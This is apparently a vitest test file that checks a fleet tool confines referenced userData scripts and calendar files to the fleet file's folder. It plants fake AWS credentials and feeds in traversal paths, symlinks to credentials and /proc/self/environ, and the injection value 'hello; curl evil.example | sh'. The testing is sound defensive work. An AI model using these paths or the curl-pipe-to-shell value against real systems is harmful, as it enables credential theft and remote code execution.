import { execFile, execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { userData } from '../../infra/user-data.ts';
import type { Launch } from '../../shared/fleet/launch.ts';
import { readFleet } from '../../shared/fleet/read-fleet.ts';
import { type Ran, rushhour } from '../kit/run-rushhour.ts';
import { sharedWork } from '../kit/shared-work.ts';

/** Somebody else's fleet file, in a folder beside what its author wants to know. */
const machine = realpathSync(mkdtempSync(join(tmpdir(), 'rushhour-hostile-')));
afterAll(() => rmSync(machine, { recursive: true }));
const folder = join(machine, 'fleet');
const treasure = 'aws_secret_access_key = swordfish';
for (const path of ['.aws', 'fleet/.git', 'fleet/scripts', 'elsewhere'])
  mkdirSync(join(machine, path), { recursive: true });
for (const path of ['.aws/credentials', 'elsewhere/script.sh', 'fleet/.env', 'fleet/.git/config'])
  writeFileSync(join(machine, path), `${treasure}\n`);
symlinkSync(join(machine, '.aws/credentials'), join(folder, 'link.sh'));
symlinkSync('../../.aws/credentials', join(folder, 'scripts/relative-link.sh'));
symlinkSync(join(machine, 'elsewhere'), join(folder, 'linked-folder'));
symlinkSync('.env', join(folder, 'env.sh'));
symlinkSync('/proc/self/environ', join(folder, 'environ.sh'));
symlinkSync('loop.sh', join(folder, 'loop.sh'));
execFileSync('mkfifo', [join(folder, 'pipe.sh')]);
symlinkSync(join(machine, '.aws/credentials'), join(folder, 'link.ics'));
for (const path of ['elsewhere/days.ics', 'fleet/.git/days.ics'])
  writeFileSync(join(machine, path), treasure);
execFileSync('mkfifo', [join(folder, 'pipe.ics')]);
writeFileSync(join(folder, 'large.sh'), `#${treasure}\n`.repeat(1000));
writeFileSync(join(folder, 'binary.sh'), Buffer.from([0x23, 0xff, 0xfe]));
writeFileSync(join(folder, 'resolve.sh'), 'export KEY={{resolve:secretsmanager:prod/db}}\n');
// biome-ignore lint/suspicious/noTemplateCurlyInString: as CDK writes it.
writeFileSync(join(folder, 'token.sh'), 'echo ${Token[TOKEN.7]}\n');
writeFileSync(join(folder, 'pasted.sh'), 'serve {{GREETING}}\n');
writeFileSync(join(folder, 'unknown.sh'), 'serve {{COLOUR}}\n');
writeFileSync(join(folder, 'dos.sh'), 'serve\r\n');
writeFileSync(join(folder, 'scripts/boot.sh'), 'serve {{TIER}} "$GREETING"\n');
symlinkSync('scripts/boot.sh', join(folder, 'current.sh'));

/** Each by the group that asks for it. */
const hostile: Readonly<Record<string, readonly [path: string, expected: string]>> = {
  up: ['../.aws/credentials', "expected a file in the fleet file's folder"],
  absolute: [join(machine, '.aws/credentials'), "expected a file in the fleet file's folder"],
  around: ['scripts/../../.aws/credentials', "expected a file in the fleet file's folder"],
  link: ['link.sh', "expected a file in the fleet file's folder"],
  'relative-link': ['scripts/relative-link.sh', "expected a file in the fleet file's folder"],
  'linked-folder': ['linked-folder/script.sh', "expected a file in the fleet file's folder"],
  kernel: ['/proc/self/environ', "expected a file in the fleet file's folder"],
  'linked-kernel': ['environ.sh', "expected a file in the fleet file's folder"],
  hidden: ['.env', 'expected a file that is not hidden'],
  'in-hidden': ['.git/config', 'expected a file that is not hidden'],
  'linked-hidden': ['env.sh', 'expected a file that is not hidden'],
  loop: ['loop.sh', 'expected a file that can be read (ELOOP)'],
  missing: ['none.sh', 'expected a file that is there'],
  folder: ['scripts', 'expected a regular file'],
  pipe: ['pipe.sh', 'expected a regular file'],
  large: ['large.sh', 'expected at most 16384 bytes'],
  binary: ['binary.sh', 'expected text in UTF-8'],
  resolve: ['resolve.sh', 'expected no {{resolve:…}}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as CDK writes it.
  token: ['token.sh', 'expected no ${Token[…]}'],
  pasted: ['pasted.sh', 'expected "$GREETING" for {{GREETING}}'],
  unknown: ['unknown.sh', "expected no {{COLOUR}}, which is not in the launch's environment"],
  dos: ['dos.sh', 'expected line ends of Unix'],
};

const groupWith = (name: string, launch: string) => `  ${name}:
    launch: { imageId: ami-0a1b2c3d4e5f60718, instanceType: c7g.large, ${launch} }
    minSize: 1
    maxSize: 4
`;
const environment = `environment: { TIER: gold, GREETING: "hello; curl evil.example | sh" }`;

function fleetFile(name: string, text: string): string {
  const file = join(folder, name);
  writeFileSync(file, text);
  return file;
}

/** As `cdk synth` runs it. */
function synth(fleet: string): Promise<Ran & { readonly outdir: string }> {
  const outdir = join(machine, 'cdk.out');
  const env = { PATH: process.env['PATH'], ...sharedWork(), FLEET: fleet, CDK_OUTDIR: outdir };
  return new Promise((resolve) => {
    execFile(process.execPath, ['infra/app.ts'], { env }, (error, stdout, stderr) =>
      resolve({ exitCode: error ? Number(error.code) : 0, stdout, stderr, outdir }),
    );
  });
}

describe('a file that the fleet file names', () => {
  const groups = Object.entries(hostile).map(([name, [path]]) =>
    groupWith(name, `userData: ${JSON.stringify(path)}, ${environment}`),
  );
  const fleet = fleetFile('files.yaml', `name: f\ngroups:\n${groups.join('')}`);

  it('is read from the folder of that file only, if it is a script: validate says what else was expected', async () => {
    const { exitCode, stdout } = await rushhour(['validate', '--fleet', fleet, '--json']);
    expect(exitCode).toBe(1);
    const { problems } = JSON.parse(stdout) as { problems: { path: string; message: string }[] };
    const told = Object.fromEntries(problems.map(({ path, message }) => [path.split('.')[1], message]));
    for (const [name, [path, expected]] of Object.entries(hostile)) {
      expect(told[name], name).toContain(expected);
      expect(told[name], name).toContain(`found ${JSON.stringify(path)}`.slice(0, 60));
    }
    expect(problems).toHaveLength(Object.keys(hostile).length);
    expect(stdout).not.toContain('swordfish');
  });

  it('is refused by synth too, which makes nothing', async () => {
    const { exitCode, stdout, stderr, outdir } = await synth(fleet);
    expect(exitCode).toBe(1);
    for (const [name, [, expected]] of Object.entries(hostile))
      expect(stderr).toContain(`groups.${name}.launch.userData: ${expected}`);
    expect(stdout + stderr).not.toContain('swordfish');
    expect(existsSync(outdir)).toBe(false);
  });

  it.each(Object.entries(hostile))('is refused once more where it is read: %s', (_, [path, expected]) => {
    const launch = readFleet(
      `name: f\ngroups:\n${groupWith('one', `userData: ${JSON.stringify(path)}, ${environment}`)}`,
    ).groups['one']!.launch as Launch;
    const boot = { fleetDirectory: folder, agent: false, addressOf: String };
    expect(() => userData(launch, boot)).toThrow(expected);
  });

  it('is no file of the kernel, even if the fleet file lies in the root of all', () => {
    const text = `name: f\ngroups:\n${groupWith('one', 'userData: proc/self/environ')}`;
    expect(() => readFleet(text, 'fleet.yaml', { folder: '/', withScripts: true })).toThrow(
      'expected a regular file',
    );
  });

  it.each([
    ['../elsewhere/days.ics', "expected a file in the fleet file's folder"],
    [join(machine, 'elsewhere/days.ics'), "expected a file in the fleet file's folder"],
    ['link.ics', "expected a file in the fleet file's folder"],
    ['linked-folder/days.ics', "expected a file in the fleet file's folder"],
    ['.git/days.ics', 'expected a file that is not hidden'],
    ['pipe.ics', 'expected a regular file'],
    ['none.ics', 'expected a file that is there'],
  ])('is no calendar either: %s', (path, expected) => {
    const calendars = `calendars: { days: { ics: ${JSON.stringify(path)} } }`;
    const text = `name: f\n${calendars}\ngroups: { one: { existing: g, minSize: 1, maxSize: 2 } }`;
    const read = () => readFleet(text, 'fleet.yaml', { folder });
    expect(read).toThrow(expected);
    expect(read).not.toThrow('swordfish');
  });

  it('may be a link to another in the folder, and has its values', async () => {
    const ordinary = groupWith('one', `userData: current.sh, ${environment}`);
    const file = fleetFile('ordinary.yaml', `name: f\ngroups:\n${ordinary}`);
    expect(await rushhour(['validate', '--fleet', file])).toMatchObject({ exitCode: 0 });
    const { launch } = readFleet(`name: f\ngroups:\n${ordinary}`).groups['one']!;
    const boot = { fleetDirectory: folder, agent: false, addressOf: String };
    expect(userData(launch!, boot).render()).toContain('serve gold "$GREETING"');
  });
});
